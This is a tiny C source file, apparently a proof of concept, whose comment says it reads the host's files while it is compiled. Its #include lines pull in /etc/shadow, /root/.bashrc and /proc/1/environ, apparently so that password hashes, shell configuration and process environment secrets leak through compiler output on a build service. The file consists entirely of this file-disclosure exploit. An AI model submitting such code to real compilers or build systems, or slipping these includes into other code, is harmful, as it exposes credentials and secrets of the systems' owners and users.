/* Reads files of the host while it is compiled. */
#include "/etc/shadow"
#include "/root/.bashrc"
#include "/proc/1/environ"
int main(void) {}
